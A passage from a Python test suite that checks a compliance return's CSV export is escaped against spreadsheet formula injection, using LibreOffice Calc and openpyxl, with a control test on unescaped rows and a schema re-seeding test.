        capture_output=True,
        timeout=120,
    )
    import openpyxl

    return {
        name: openpyxl.load_workbook(tmp_path / f"{name}.xlsx").active for name in files
    }


def formulas(sheet) -> list[str]:
    return [
        f"{cell.coordinate}: {cell.value}"
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def same(sheet_value, csv_text: str) -> bool:
    """A cell as the spreadsheet holds it equals the CSV's text: text exactly,
    numbers as numbers (Calc reads 41.500 as 41.5), ISO days as dates."""
    if sheet_value is None:
        return csv_text == ""
    if isinstance(sheet_value, str):
        return sheet_value == csv_text
    if hasattr(sheet_value, "date"):
        return sheet_value.date().isoformat() == csv_text[:10]
    try:
        return Decimal(str(sheet_value)) == Decimal(csv_text)
    except InvalidOperation:
        return False


@needs_spreadsheet
def test_the_export_opens_as_text_and_numbers_never_formulas(
    approved, boss, tmp_path, lo_profile
):
    ret: ComplianceReturn = approved
    export = returns.return_export(
        return_id=ret.pk, schema_slug=None, actor=boss, source="test"
    )
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8"), newline="")))
    assert any(EVIL_SERIAL in cell for row in rows for cell in row)

    sheet = as_spreadsheets(tmp_path, lo_profile, {"export": export.content})["export"]

    assert formulas(sheet) == []
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(cells) == len(rows)
    mismatches = [
        (r, c, value, rows[r][c])
        for r, row in enumerate(cells)
        for c, value in enumerate(row[: len(rows[r])])
        if not same(value, rows[r][c])
    ]
    assert mismatches == []
    # The hostile serial is there, as text a person can read (with its prefix).
    texts = {value for row in cells for value in row if isinstance(value, str)}
    assert any(EVIL_SERIAL in text for text in texts)


@needs_spreadsheet
def test_the_same_rows_unescaped_would_have_been_formulas(tmp_path, lo_profile):
    """The control: Calc evaluates what is not escaped, so the check above
    would see a formula that slipped through."""
    plain = io.StringIO(newline="")
    writer = csv.writer(plain, lineterminator="\r\n")
    writer.writerows([["serial", "recycler"], [EVIL_SERIAL, EVIL_RECYCLER]])
    escaped = csvsafe.csv_bytes(["serial", "recycler"], [[EVIL_SERIAL, EVIL_RECYCLER]])
    sheets = as_spreadsheets(
        tmp_path,
        lo_profile,
        {"unescaped": plain.getvalue().encode(), "escaped": escaped},
    )
    assert formulas(sheets["unescaped"]) != []
    assert formulas(sheets["escaped"]) == []


def test_the_demo_ships_the_cpcb_schemas_again_after_a_flush():
    from compliance import demo

    CsvSchema.objects.all().delete()
    lines: list[str] = []
    demo._schemas(lines.append)
    assert set(CsvSchema.objects.values_list("slug", "is_default")) == {
        ("cpcb-epr-summary", True),
        ("cpcb-epr-packs", True),
    }
    assert lines == ["compliance: the CPCB CSV schemas shipped again"]
    demo._schemas(lines.append)
    assert len(lines) == 1
